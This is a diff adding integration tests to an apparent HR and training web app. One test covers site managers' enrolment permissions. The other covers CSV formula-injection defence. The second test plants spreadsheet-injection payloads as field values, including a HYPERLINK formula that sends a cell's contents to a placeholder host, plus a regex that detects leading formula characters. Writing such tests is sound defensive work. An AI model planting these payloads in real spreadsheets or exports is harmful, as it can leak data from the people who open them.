@@ -236,6 +236,61 @@ describe('training, pathways and exits over HTTP (capabilities 5, 6, 8)', () => 
     expect((await enrol(session.id, await personId('Ribeiro'), managerEst)).status).toBe(403);
   });
 
+  it('lets a manager enrol only their own people in sessions of their own sites; the rota owner can always withdraw', async () => {
+    const day = addDays(FAR, 3);
+    const session = await newSession('T12', day);
+    const tran = await personId('Tran');
+    const fontaine = await personId('Fontaine');
+    const before = [await count('training_enrolment'), await count('shift')];
+
+    // Paris Est's manager cannot put an item on Paris Sud's rota, even for their own person.
+    const crossSite = await enrol(session.id, tran, managerEst);
+    expect(crossSite.status).toBe(403);
+    expect(crossSite.body.message).toContain('site dont vous n’avez pas la charge');
+    // Paris Sud's manager cannot enrol someone of Paris Est: not their person.
+    const notTheirs = await enrol(session.id, tran, managerSud);
+    expect(notTheirs.status).toBe(403);
+    expect(notTheirs.body.message).toContain('personnes des sites dont vous avez la charge');
+    expect([await count('training_enrolment'), await count('shift')]).toEqual(before);
+
+    // HR may enrol anyone anywhere: the item lands on Paris Sud's rota, whose manager sees the
+    // enrolment and can withdraw it.
+    const byHr = await enrol(session.id, tran);
+    expect(byHr.status).toBe(201);
+    const detail = await t.request<TrainingSession>('GET', `/api/training/sessions/${session.id}`, {
+      cookie: managerSud,
+    });
+    expect(detail.body.enrolments?.map((enrolment) => enrolment.personId)).toEqual([tran]);
+    const rota = await t.request<RotaWeek>(
+      'GET',
+      `/api/rota?siteId=${session.siteId}&week=${isoWeekOf(day)}`,
+      { cookie: managerSud },
+    );
+    expect(rota.body.shifts.filter((shift) => shift.personId === tran)).toHaveLength(1);
+    const withdrawn = await t.request('DELETE', `/api/training/enrolments/${byHr.body.id}`, {
+      cookie: managerSud,
+    });
+    expect(withdrawn.status).toBe(204);
+    expect([await count('training_enrolment'), await count('shift')]).toEqual(before);
+
+    // The person's own manager may withdraw them too; a third site's manager may not.
+    const again = await enrol(session.id, tran);
+    expect(again.status).toBe(201);
+    const other = await enrol(session.id, fontaine);
+    expect(other.status).toBe(201);
+    const foreign = await t.request<ApiError>(
+      'DELETE',
+      `/api/training/enrolments/${other.body.id}`,
+      { cookie: managerEst },
+    );
+    expect(foreign.status).toBe(403);
+    expect(foreign.body.message).toContain('Vous ne pouvez retirer');
+    const byOwnManager = await t.request('DELETE', `/api/training/enrolments/${again.body.id}`, {
+      cookie: managerEst,
+    });
+    expect(byOwnManager.status).toBe(204);
+  });
+
   it('takes attendance (site manager), then HR validation grants the SST for 24 months and moves the pathway', async () => {
     const day = addDays(today, -14);
     const session = await newSession('T07', day, '09:00', '17:00');
@@ -688,5 +743,52 @@ describe('training, pathways and exits over HTTP (capabilities 5, 6, 8)', () => 
         .subarray(0, 5)
         .toString(),
     ).toBe('%PDF-');
+  });
+
+  it('neutralises formulas in every CSV export: a quote before =, +, -, @, tab or CR, the cell quoted', async () => {
+    const formula = '=HYPERLINK("https://exemple.invalid/?x="&A1;"Voir")';
+    const person = await t.request<{ id: string }>('POST', '/api/people', {
+      cookie: hr,
+      body: {
+        firstName: '+33 1 23 45 67 89',
+        lastName: formula,
+        jobTitle: '@SOMME(A1:A9)',
+        email: 'formule.csv@relais.demo',
+        homeSiteId: (await one<{ id: string }>(`SELECT id FROM site WHERE code = 'S'`)).id,
+        role: 'mediator',
+      },
+    });
+    expect(person.status).toBe(201);
+    const contract = await one<{ id: string }>(
+      `SELECT c.id FROM contract c WHERE NOT EXISTS (SELECT 1 FROM exit_record x WHERE x.contract_id = c.id)
+         AND NOT EXISTS (SELECT 1 FROM contract n WHERE n.person_id = c.person_id AND n.id <> c.id)
+       ORDER BY c.start_date LIMIT 1`,
+    );
+    const exit = await t.request('POST', '/api/exits', {
+      cookie: hr,
+      body: {
+        contractId: contract.id,
+        exitDate: today,
+        category: 'EMPLOI_TRANSITION',
+        jobContractType: 'CDD',
+        durationBucket: 'UNDER_SIX_MONTHS',
+        employerSector: '-2+3\tcmd',
+      },
+    });
+    expect(exit.status).toBe(201);
+
+    const people = await t.request<string>('GET', '/api/exports/people.csv', { cookie: hr });
+    expect(people.status).toBe(200);
+    const quoted = `"'${formula.replaceAll('"', '""')}"`;
+    expect(people.body).toContain(`${quoted};"'+33 1 23 45 67 89";`);
+    expect(people.body).toContain(`;"'@SOMME(A1:A9)";`);
+    const exits = await t.request<string>('GET', '/api/exports/exits.csv', { cookie: hr });
+    expect(exits.status).toBe(200);
+    expect(exits.body).toContain(`;"'-2+3\tcmd";`);
+    // No cell of any CSV export starts with a formula character, quoted or not (numbers aside).
+    for (const csv of [people.body, exits.body])
+      expect(csv.split('\n').flatMap((line) => line.split(';'))).not.toContainEqual(
+        expect.stringMatching(/^(?!-?\d+(\.\d+)?$)"?[=+\-@\t\r]/),
+      );
   });
 });
